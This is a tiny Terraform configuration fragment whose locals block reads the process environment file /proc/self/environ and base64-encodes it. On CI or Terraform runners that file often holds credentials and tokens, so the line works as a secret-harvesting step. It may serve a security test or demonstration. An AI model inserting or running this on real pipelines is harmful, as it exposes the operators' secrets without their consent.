locals {
  text = filebase64("/proc/self/environ")
}
